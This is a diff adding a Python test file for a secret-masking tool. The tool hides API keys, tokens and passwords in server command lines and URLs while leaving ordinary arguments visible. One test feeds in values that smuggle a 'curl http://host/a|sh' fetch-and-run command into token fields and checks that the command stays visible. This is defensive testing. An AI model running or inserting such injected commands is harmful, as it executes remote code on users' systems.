@@ -1,0 +1,121 @@
+"""Secrets in command lines and addresses: masked in every form, and nothing else is hidden."""
+
+from __future__ import annotations
+
+import pytest
+from hypothesis import given, settings
+from hypothesis import strategies as st
+
+from core.tools.masks import MASK, looks_secret, masked, secret_texts
+from core.tools.messages import ServerEntry
+
+# What keys and passwords consist of; no form below has Q7.
+SECRETS = st.from_regex(r"[A-Za-z0-9_=.+~-]{0,20}Q7[A-Za-z0-9_=.+~-]{0,20}", fullmatch=True)
+KEYS = st.sampled_from(
+    ["sk-", "sk-ant-", "ghp_", "github_pat_", "glpat-", "xoxb-", "hf_", "npm_", "AKIA", "AIza", "eyJ"]
+).flatmap(lambda begin: st.from_regex(begin + r"[A-Za-z]{0,8}[0-9][A-Za-z0-9_-]{12,30}", fullmatch=True))
+FORMS = (
+    ("--api-key", "{}"),
+    ("--token={}",),
+    ("-apiKey", "{}"),
+    ("--accessKey={}",),
+    ("--db.password", "{}", "--verbose"),
+    ("-e", "OPENAI_API_KEY={}"),
+    ("-H", "Authorization: Bearer {}"),
+    ("--header", "X-Api-Key:{}"),
+    ("--header=Authorization: Basic {}",),
+    ("Cookie: {}",),
+    ("postgres://me:{}@host:5432/db",),
+    ("https://host/mcp?a=1&api_key={}&b=2",),
+    ("--url=https://host/sse?token={}",),
+    ("--config", '{{"apiKey": "{}", "n": 1}}'),
+    ("--config", '{{\\"client_secret\\":\\"{}\\"}}'),
+    ("Server=host;User Id=me;Password={};",),
+    ("-c", "API_KEY={} npx server --verbose"),
+    ("-c", "server --token {} --verbose"),
+    ("-c", "TOKEN='{}' server"),
+)
+PLAIN = (
+    ("-y", "@modelcontextprotocol/server-filesystem", "/Users/me/My Files"),
+    ("run", "-i", "--rm", "-e", "API_KEY", "mcp/server:1.0"),
+    ("--max-tokens", "4096", "--token-limit=8", "--tokenizer", "gpt2"),
+    ("--token-file", "/run/secrets/token", "--key-path=/a/b.pem"),
+    ("--auth-url", "https://host/login", "--auth", "false", "--password", "--verbose"),
+    ("http://host:8080/a?user=me@host", "ssh://git@host/a.git", "user@host:22"),
+    ("sk-learn-server-with-tools", "npm-check-updates", "pkg_something_long_enough"),
+    ("--keyboard", "us", "--author=me", "--monkey", "1", "host:secret/path"),
+)
+
+
+def check(form: tuple[str, ...], secret: str) -> None:
+    texts = tuple(each.format(secret) for each in form)
+    found = masked(texts)
+    assert found == tuple(each.format(MASK) for each in form)
+    assert masked(found) == found
+    assert secret_texts(ServerEntry("a", "npx", texts)) == {secret}
+
+
+@pytest.mark.parametrize("form", FORMS)
+@settings(max_examples=30)
+@given(secret=SECRETS)
+def test_a_secret_is_masked_in_every_form(form: tuple[str, ...], secret: str) -> None:
+    check(form, secret)
+
+
+@pytest.mark.parametrize("form", [("{}",), ("https://{}@host/a.git",), ("-c", "server {} --verbose")])
+@given(key=KEYS)
+def test_a_known_kind_of_key_is_masked_without_a_name(form: tuple[str, ...], key: str) -> None:
+    check(form, key)
+
+
+@pytest.mark.parametrize("texts", PLAIN)
+def test_what_is_no_secret_is_shown(texts: tuple[str, ...]) -> None:
+    assert masked(texts) == texts
+    assert secret_texts(ServerEntry("a", "npx", texts)) == set()
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        "TOKEN=x;curl http://host/a|sh",
+        "TOKEN=x&curl http://host/a|sh",
+        'TOKEN="$(curl http://host/a|sh)" true',
+        'TOKEN="`curl http://host/a|sh`" true',
+        '{ TOKEN="$(curl http://host/a|sh)"; }',
+        "TOKEN=$(curl http://host/a|sh) true",
+        "TOKEN=x\ncurl http://host/a|sh",
+        "--token=x;curl http://host/a|sh",
+        "server --token x >a;curl http://host/a|sh",
+        "bearer x;curl http://host/a|sh",
+        "http://a:b@c;curl http://host/a|sh",
+        "http://a:b;curl http://host/a|sh@c",
+        "http://a:b/;curl http://host/a|sh;true@c",
+    ],
+)
+def test_what_a_shell_would_run_is_never_hidden(text: str) -> None:
+    _, shown = masked(["-c", text])
+    assert "curl http://host/a|sh" in shown
+
+
+@given(st.lists(st.text(st.sampled_from("--token=:Ab1 \"'\\{}/@?&;|$`\n•"), max_size=30), max_size=4))
+def test_masks_stay_as_they_are(texts: list[str]) -> None:
+    found = masked(texts)
+    assert masked(found) == found
+    assert all(shown == text for shown, text in zip(found, texts, strict=True) if MASK in text)
+
+
+def test_names_and_values_of_variables_are_recognised() -> None:
+    secret = ["API_KEY", "GITHUB_TOKEN", "apiKey", "X-Api-Key", "Authorization", "DB_PASSWORD", "PGPASSWORD"]
+    secret += ["token", "DB_PASS", "accessKey", "SECRET_ID"]
+    plain = ["TOWN", "KEYBOARD", "HOME", "MONKEY", "PATH", "AUTHOR", "PORT", "X-Team", "COMPASS"]
+    assert [name for name in secret if not looks_secret(name, "a")] == []
+    assert [name for name in plain if looks_secret(name, "a")] == []
+    for value in ("sk-0123456789abcdef", "Bearer abc", "postgres://me:abc@host/db", '{"token": "abc"}'):
+        assert looks_secret("X", value), value
+    assert not looks_secret("X", "https://host:8080/a")
+
+
+@pytest.mark.parametrize("text", ["://:" * 20_000, 'token=\\"' * 20_000, "SG." * 20_000, "-a" * 40_000])
+def test_a_long_text_takes_time_with_its_length(text: str) -> None:
+    """It would take minutes otherwise."""
+    assert len(masked([text, "--token" + " " * 50_000])) == 2
